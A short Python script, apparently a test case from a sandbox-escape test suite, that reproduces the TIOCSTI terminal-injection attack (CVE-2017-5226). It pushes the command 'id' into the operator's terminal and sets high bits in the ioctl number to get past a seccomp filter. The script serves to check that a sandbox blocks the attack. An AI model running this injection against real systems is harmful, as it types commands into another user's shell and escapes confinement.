"""Standard input is the operator's terminal, which the program makes its
controlling one and into whose input it pushes a line, as if it had been typed
(CVE-2017-5226); also with a bit set in the upper half of the command, which the
kernel ignores and a filter may not.

Blocked by the engine, which gives no terminal of its own to a cell; by the
seccomp list, which looks at the lower half of an ioctl's command.
"""
import ctypes
import os

WANTS = None
BARE = "root"
NEEDS = ("pty",)

SYS_ioctl, TIOCSCTTY, TIOCSTI = 16, 0x540E, 0x5412
libc = ctypes.CDLL(None, use_errno=True)


def ioctl(fd, command, argument):
    return libc.syscall(ctypes.c_long(SYS_ioctl), ctypes.c_long(fd),
                        ctypes.c_ulong(command), argument)


def push(fd):
    for high in (0, 1 << 32, 0xFFFFFFFF << 32):
        for letter in b"id\n":
            if ioctl(fd, high | TIOCSTI, bytes([letter])) < 0:
                break
        else:
            return True
    return False


if os.fork() == 0:
    os.setsid()
    fds = [0, 1, 2]
    for path in ("/dev/tty", "/dev/console", "/proc/1/fd/0"):
        try:
            fds.append(os.open(path, os.O_RDWR | os.O_NOCTTY))
        except OSError:
            pass
    for fd in fds:
        ioctl(fd, TIOCSCTTY, ctypes.c_long(1))
        if os.isatty(fd) and push(fd):
            print("ESCAPED: typed a line on descriptor", fd, flush=True)
            break
    else:
        print("refused: no terminal takes it", flush=True)
    os._exit(0)
os.wait()
